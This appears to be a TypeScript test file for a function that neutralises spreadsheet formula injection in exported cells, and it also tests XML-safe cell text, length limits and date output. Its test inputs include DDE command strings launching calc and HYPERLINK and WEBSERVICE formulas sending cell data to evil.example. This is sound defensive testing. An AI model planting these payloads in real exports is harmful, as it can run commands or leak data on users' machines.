import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cellText, harmless, instantText } from '#app/sheets/cell.ts';

describe('text that a spreadsheet would run', () => {
  it.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: click for details")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '+1+1',
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=1+2";=1+2',
    '=1+2\'" ;,=1+2',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '﹦1+1',
    '   =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '\0=1+1',
  ])('%j gets an apostrophe in front', (text) => expect(harmless(text)[0]).toBe("'"));

  it.each(['\t=1+1', '\r=1+1', '\n=1+1', '\tplain', '\rplain', '\nplain', '\0plain', '\t \n=1'])(
    '%j, which starts with a control, gets one too',
    (text) => expect(harmless(text)[0]).toBe("'"),
  );

  it('is also guarded where Excel would cut the line: after a semicolon, a tab or a line end', () => {
    expect(harmless('a;=1+1;b')).toBe("a;'=1+1;b");
    expect(harmless('a\t @x')).toBe("a\t' @x");
    expect(harmless('- one\n- two')).toBe("'- one\n'- two");
  });

  it.each(['', 'Ana Ruiz', 'a=b', '1-2', 'x; y', 'ana@x.org', "'=1+1", 'a, -b', '−4', '"=1"', 'two\nlines'])(
    '%j is harmless and stays as it is',
    (text) => expect(harmless(text)).toBe(text),
  );

  const nasty = fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', '＝', '﹫', '\t', '\r', '\n', '\0', ' ', '\u00a0', '\u200b', ';', ',', "'", '"', 'a', '1'),
  });

  it('never starts with a trigger afterwards, at its start or after a cut, and is guarded once', () => {
    fc.assert(
      fc.property(fc.oneof(nasty, fc.string({ unit: 'binary' })), (text) => {
        const once = harmless(text);
        expect(once).not.toMatch(/^[\t\r\n\0]/);
        for (const piece of once.split(/[;\t\r\n]/)) expect(piece).not.toMatch(/^[\s\p{C}]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u);
        expect(harmless(once)).toBe(once);
        const kept = [...text].filter((sign) => sign !== "'").join('');
        expect(once.replaceAll("'", '')).toBe(kept);
      }),
    );
  });
});

describe('the text of a cell', () => {
  it('has line feeds as line ends and nothing that XML cannot hold', () => {
    expect(cellText('a\r\nb\rc')).toBe('a\nb\nc');
    expect(cellText('a\0b\u0007c\ufffed')).toBe('abcd');
    expect(cellText('a\ud800b')).toBe('a\ufffdb');
    expect(cellText('\u0001=1')).toBe("'=1");
  });

  it('is no longer than Excel can hold, and does not end within a character', () => {
    expect(cellText('x'.repeat(32_767))).toHaveLength(32_767);
    const cut = cellText('😀'.repeat(20_000));
    expect(cut.length).toBeLessThanOrEqual(32_767);
    expect(cut.endsWith('😀…')).toBe(true);
  });

  it('stays harmless where something before the trigger is taken away', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('\0', '\u0001', '\r', '\ud800', '=', 'a') }), (text) => {
        expect(cellText(text)).not.toMatch(/(^|\n)[\s\p{C}]*=/u);
      }),
    );
  });
});

it('an instant is ISO 8601 in UTC, nothing for an invalid date, and harmless in the far future', () => {
  expect(instantText(new Date(0))).toBe('1970-01-01T00:00:00.000Z');
  expect(instantText(new Date(Number.NaN))).toBeNull();
  expect(instantText(new Date(8.64e15))).toBe("'+275760-09-13T00:00:00.000Z");
});
